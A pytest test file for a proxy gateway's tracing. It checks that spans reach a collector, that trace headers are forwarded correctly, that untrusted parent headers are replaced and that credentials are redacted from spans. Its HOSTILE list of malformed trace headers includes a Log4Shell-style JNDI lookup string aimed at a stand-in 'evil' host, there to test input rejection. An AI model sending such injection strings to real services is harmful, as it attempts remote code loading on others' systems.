"""Traces of a gate, in every lane: a collector gets the spans, and the upstream is told of them."""

from __future__ import annotations

import asyncio
import contextlib
import re
import secrets
import time

import pytest

from proxy.adapters.telemetry.otlp import SpanSender
from proxy.config.models import SessionSchemeConfig
from proxy.edge.decision import DecisionServer
from proxy.edge.tracing import Tracer
from proxy.services.schemes.build import open_sessions
from proxy.services.sessions import Login
from tests.byte_server import REQUEST, ByteServer
from tests.collector import collecting
from tests.lanes import MODES, is_whole
from tests.live.conftest import bind

LANES = MODES
OK = b"HTTP/1.1 200 OK\r\nDate: Thu, 01 Jan 2026 00:00:00 GMT\r\nContent-Length: 2\r\n\r\nok"
TRACE, SPAN = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
PARENT = f"00-{TRACE}-{SPAN}-01"
CONFIG = """
server: {{trusted_proxies: [{trusted}]}}
store: {{url: "{store}"}}
decision: {{listen: "127.0.0.1:9191", callers: [{{from: 127.0.0.1, dialect: nginx}}]}}
secrets: {{key: "{key}"}}
upstreams:
  app: {{servers: ["{server}"]}}
  gone: {{servers: ["http://127.0.0.1:1"]}}
schemes:
  web: {{type: session, format: native, cookie: sid}}
routes:
  - {{match: {{path: /in}}, auth: web, upstream: app}}
  - {{match: {{path: /gone}}, auth: none, upstream: gone}}
  - {{match: {{path: "/**"}}, auth: none, upstream: app}}
"""


class Counting(Tracer):
    """A tracer that counts the requests of the loop: the lane asks nobody to begin."""

    begun = 0

    def begin(self, view, *, lot):
        self.begun += 1
        return super().begin(view, lot=lot)


class Rig:
    """A gate that makes traces, what it forwards to, and the collector."""

    def __init__(self, gate, server, collector, sender, make_tracer) -> None:
        self.gate, self.server, self.collector, self._sender = gate, server, collector, sender
        self.make_tracer = make_tracer
        self.connection = None

    async def ask(self, *lines, path=b"/", method=b"GET", body=b""):
        """Send one request on the one connection; return the answer."""
        if self.connection is None:
            self.connection = await self.gate.connect()
        reader, writer = self.connection
        writer.write(b"\r\n".join((method + b" " + path + b" HTTP/1.1", b"Host: gate", *lines)))
        writer.write(b"\r\n\r\n" + body)
        raw = b""
        async with asyncio.timeout(10):
            while not is_whole(raw, method) and (data := await reader.read(65536)):
                raw += data
        if b"connection: close" in raw.lower():
            self.close()
        return raw

    def told(self):
        """Return what the upstream was told, request by request: traceparent and tracestate."""
        raw = b"".join(bytes(seen.received) for seen in self.server.seen)
        heads = [head for head in raw.split(b"\r\n\r\n") if head]
        return [
            tuple(
                ",".join(re.findall(rf"(?im)^{name}: *(.*?)\r?$", head.decode()))
                for name in ("traceparent", "tracestate")
            )
            for head in heads
        ]

    async def spans(self):
        """Have all spans sent; return them."""
        await asyncio.to_thread(self._sender.close, 5)
        return self.collector.spans

    async def cookie(self):
        """Return the Cookie line of a new session."""
        config = self.gate.runtime.config
        scheme = config.schemes["web"]
        assert isinstance(scheme, SessionSchemeConfig)
        sessions = open_sessions(config, scheme, self.gate.runtime.store)
        created = await sessions.create(Login("ann@example.com"), time.time())
        return b"Cookie: sid=" + created.cookie.encode()

    def close(self):
        if self.connection is not None:
            self.connection[1].close()
            self.connection = None


@pytest.fixture
async def rig(start_gate, valkey):
    """Return a function that starts a gate which traces `sample` of the requests."""
    async with contextlib.AsyncExitStack() as stack:

        async def start(
            *, sample=1.0, parents="trusted", trusted="127.0.0.1/32", chosen=None, is_on=None
        ):
            collector = await stack.enter_async_context(collecting())
            server = ByteServer([[REQUEST, OK] * 40 for _ in range(4)])
            await server.start()
            stack.push_async_callback(server.stop)
            sender = SpanSender(
                collector.endpoint,
                resource={"service.name": "gate"},
                version="1",
                headers={"Authorization": "Bearer collector"},
                timeout_s=5,
                delay_s=0.05,
            )
            stack.callback(sender.close, 1)

            def tracer(runtime):
                if is_on is not None and not is_on.is_set():
                    return None
                made = Counting(
                    sender.export, sample=sample, parents=parents, forwarding=runtime.forwarding
                )
                if chosen is not None:
                    made.draw = chosen.pop
                return made

            text = CONFIG.format(
                server=server.address, store=valkey.url, key="00" * 32, trusted=trusted
            )
            gate = await start_gate(text, make_tracer=tracer)
            tracked = gate.runtime.coherence.tracked.values()
            async with asyncio.timeout(10):
                while any(one.source.state != "tracking" for one in tracked):  # noqa: ASYNC110 - it tells nobody
                    await asyncio.sleep(0.002)
            found = Rig(gate, server, collector, sender, tracer)
            stack.callback(found.close)
            return found

        yield start


def one(spans, kind, **attributes):
    """Return the one span of a kind that has these attributes, or this name."""
    name = attributes.pop("name", None)
    (found,) = [
        span
        for span in spans
        if span.kind == kind
        and (name is None or span.name == name)
        and attributes.items() <= span.attributes.items()
    ]
    return found


async def test_the_collector_gets_request_verdict_look_up_and_upstream(rig):
    """One trace of four spans; the upstream is asked within the last of them."""
    it = await rig()
    assert b"200" in (await it.ask(await it.cookie(), path=b"/in?token=x"))[:12]
    spans = await it.spans()

    request = one(spans, "server")
    verdict = one(spans, "internal", name="verdict")
    lookup = one(spans, "client", name="look-up store")
    upstream = one(spans, "client", name="GET app")
    assert 4 == len(spans)
    assert {request.trace_id} == {span.trace_id for span in spans}
    assert ("", request.span_id, verdict.span_id, request.span_id) == (
        request.parent_id, verdict.parent_id, lookup.parent_id, upstream.parent_id,
    )  # fmt: skip
    assert [(f"00-{request.trace_id}-{upstream.span_id}-01", "")] == it.told()
    assert "GET /in" == request.name
    assert {
        "http.request.method": "GET",
        "url.path": "/in",
        "url.query": "REDACTED",
        "http.route": "/in",
        "http.response.status_code": 200,
        "latchgate.scheme": "web",
        "latchgate.decision": "forward",
        "latchgate.request_id": it.gate.records[0].request_id,
    }.items() <= request.attributes.items()
    assert (200, "app", str(it.server.address)) == tuple(
        upstream.attributes[name]
        for name in ("http.response.status_code", "latchgate.upstream", "latchgate.server")
    )
    assert 0 < lookup.took_ns <= verdict.took_ns <= request.took_ns
    assert not any(span.is_failed for span in spans)
    assert [{"service.name": "gate"}] == it.collector.resources
    assert "Bearer collector" == it.collector.headers[0]["authorization"]


async def test_a_parent_of_a_trusted_peer_is_followed(rig):
    """Its trace goes on, with its tracestate, and our span is its child."""
    it = await rig(sample=0.0)
    await it.ask(b"TraceParent: " + PARENT.encode(), b"tracestate: a=1, b=2")
    spans = await it.spans()

    request, upstream = one(spans, "server"), one(spans, "client")
    assert (TRACE, SPAN, "a=1,b=2") == (request.trace_id, request.parent_id, request.state)
    assert [(f"00-{TRACE}-{upstream.span_id}-01", "a=1,b=2")] == it.told()


async def test_a_parent_that_keeps_nothing_goes_on_as_it_came(rig, lane):
    """No span is made, whatever the share, and the upstream sees the sender's own span."""
    it = await rig(sample=1.0)
    for _ in range(3):
        await it.ask(f"traceparent: 00-{TRACE}-{SPAN}-00".encode(), b"tracestate: a=1")

    assert [(f"00-{TRACE}-{SPAN}-00", "a=1")] * 3 == it.told()
    assert (3 if lane == "off" else 0) == it.gate.server._serving.tracer.begun
    assert [] == await it.spans()


HOSTILE = (
    b"traceparent: 00-00000000000000000000000000000000-00f067aa0ba902b7-01",
    b"traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01",
    b"traceparent: 00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01",
    b"traceparent: ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
    b"traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-x",
    b"traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-0g",
    b"TRACEPARENT: ${jndi:ldap://evil}",
    b"traceparent: " + PARENT.encode() + b"\r\ntraceparent: " + PARENT.encode(),
    b"tracestate: a=1",
)


async def test_a_hostile_parent_is_replaced(rig):
    """What is not exactly one parent begins a trace of the gate's own, or none: it never goes on."""
    it = await rig(sample=1.0)
    for line in HOSTILE:
        await it.ask(line)
    told = it.told()
    spans = await it.spans()

    roots = [span for span in spans if span.kind == "server"]
    assert len(HOSTILE) == len(roots) == len(told)
    assert {""} == {span.parent_id for span in roots} == {state for _, state in told}
    assert TRACE not in {span.trace_id for span in roots}
    upstream = {f"00-{s.trace_id}-{s.span_id}-01" for s in spans if s.kind == "client"}
    assert upstream == {parent for parent, _ in told}


async def test_what_is_not_traced_is_told_of_no_parent_that_is_not_believed(rig, lane):
    """Without spans of ours a stranger's headers do not go on; what says nothing stays in its lane."""
    it = await rig(sample=0.0, trusted="192.0.2.1/32")
    await it.ask()
    await it.ask(b"traceparent: " + PARENT.encode(), b"tracestate: a=1")
    await it.ask(b"tracestate: a=1")
    await it.ask()

    assert [("", "")] * 4 == it.told()
    assert [] == await it.spans()
    assert (4 if lane == "off" else 2) == it.gate.server._serving.tracer.begun


async def test_a_later_version_is_read_as_far_as_this_one_goes(rig):
    """What it has more is not passed on."""
    it = await rig(sample=0.0)
    await it.ask(f"traceparent: 01-{TRACE}-{SPAN}-01-more".encode())
    await it.ask(f"traceparent: 01-{TRACE}-{SPAN}-00-more".encode())
    upstream = one(await it.spans(), "client")

    assert [(f"00-{TRACE}-{upstream.span_id}-01", ""), (f"00-{TRACE}-{SPAN}-00", "")] == it.told()


async def test_chance_decides_once_for_each_request(rig):
    """Those that won have spans, whatever their lane; those that lost have none, also with bodies."""
    it = await rig(sample=0.5, chosen=[False, True, False, True, False, True, False, False][::-1])
    cookie = await it.cookie()
    for _ in range(6):
        await it.ask(cookie, path=b"/in")
    told = [bool(parent) for parent, _ in it.told()]

    assert [False, True, False, True, False, True] == told
    spans = await it.spans()
    assert 3 == sum(span.kind == "server" for span in spans)


async def test_a_question_of_another_proxy_is_traced_too(rig):
    """By what it asks about, in the proxy's own trace; there is no upstream, and no word of nonsense."""
    it = await rig(sample=0.0)
    config = it.gate.runtime.config.decision
    server = DecisionServer(
        it.gate.runtime, config, it.gate.server.counters, make_tracer=it.make_tracer
    )
    sock = bind()
    await server.start([sock])
    head = f"GET /check HTTP/1.1\r\nHost: gate\r\nX-Forwarded-For: 192.0.2.1\r\ntraceparent: {PARENT}\r\n"
    for more in ("X-Original-Method: GET\r\nX-Original-URI: /in?a=secret\r\n", ""):
        reader, writer = await asyncio.open_connection(*sock.getsockname())
        writer.write(f"{head}X-Forwarded-Proto: http\r\n{more}Connection: close\r\n\r\n".encode())
        assert (await reader.read()).split(b" ")[1] in (b"401", b"403")
        writer.close()
    await server.drain(1.0)
    spans = await it.spans()

    asked = one(spans, "server", name="GET /in")
    nonsense = one(spans, "server", name="_OTHER")
    assert (TRACE, SPAN, TRACE) == (asked.trace_id, asked.parent_id, nonsense.trace_id)
    assert ("credential_missing", "/in", "REDACTED") == tuple(
        asked.attributes[name] for name in ("latchgate.code", "url.path", "url.query")
    )
    assert "" == nonsense.attributes["url.path"]
    assert {"server", "internal"} == {span.kind for span in spans}
    assert b"secret" not in it.collector.raw


async def test_a_reload_that_begins_with_traces_leaves_no_connection_out(rig, tmp_path):
    """Those that are open are ended in good order: what they carry would not be looked at."""
    is_on = asyncio.Event()
    it = await rig(sample=0.0, trusted="192.0.2.1/32", is_on=is_on)
    await it.ask(b"tracestate: a=1")
    is_on.set()
    (path,) = tmp_path.glob("gate-*.yaml")
    await it.gate.reload(path, path.read_text())
    assert b"" == await asyncio.wait_for(it.connection[0].read(), 10)
    it.close()
    await it.ask(b"tracestate: a=1")

    assert [("", "a=1"), ("", "")] == it.told()


async def test_refusals_and_failures_are_told(rig):
    """A refusal has its code and no upstream; an upstream that is away fails the trace."""
    it = await rig()
    assert b"401" in (await it.ask(path=b"/in"))[:12]
    assert b"502" in (await it.ask(path=b"/gone"))[:12]
    assert b"400" in (await it.ask(path=b"/%zz"))[:12]
    spans = await it.spans()

    refused = one(spans, "server", **{"http.response.status_code": 401})
    failed = one(spans, "server", **{"http.response.status_code": 502})
    upstream = one(spans, "client")
    assert ("credential_missing", "upstream_unreachable", "upstream_unreachable") == tuple(
        span.attributes["latchgate.code"] for span in (refused, failed, upstream)
    )
    assert [False, True, True] == [span.is_failed for span in (refused, failed, upstream)]
    assert failed.span_id == upstream.parent_id
    assert 3 == sum(span.kind == "server" for span in spans)


async def test_s15_nothing_of_a_credential_is_in_a_span(rig):
    """S15: cookies, tokens, queries, bodies, addresses and names of people are not sent on."""
    it = await rig(sample=1.0)
    secret = secrets.token_hex(16)
    jws = f"eyJhbGciOiJIUzI1NiJ9.{secret}.{secret}"
    cookie = await it.cookie()
    await it.ask(cookie, path=b"/in?key=" + secret.encode())
    for line in (f"Authorization: Bearer {jws}", f"Cookie: a={secret}", f"X-Api-Key: {secret}"):
        await it.ask(line.encode(), path=b"/in")
        await it.ask(line.encode(), b"Content-Length: 32", method=b"POST", body=secret.encode())
    await it.ask(path=f"/reset/{jws}".encode())
    await it.ask(path=f"http://u:{secret}@gate/in?{secret}".encode())
    await it.ask(f"tracestate: x={secret}".encode())
    await it.ask(method=secret.upper().encode())
    assert 10 < len(await it.spans())

    raw = it.collector.raw
    assert secret.encode() not in raw.lower()
    assert cookie.partition(b"=")[2] not in raw
    assert b"ann@example.com" not in raw
    assert b"127.0.0.1" not in raw.replace(str(it.server.address).encode(), b"").replace(
        b"127.0.0.1:1", b""
    )


async def test_a_collector_that_takes_nothing_costs_no_request(rig, caplog):
    """Spans are lost, it is said once in words of our own, and people are answered."""
    it = await rig()
    it.collector.status = 400
    for _ in range(3):
        assert b"200" in (await it.ask())[:12]
    await it.spans()

    assert [] == it.collector.spans
    said = [record.getMessage() for record in caplog.records if "lost" in record.getMessage()]
    assert 1 == len(said)
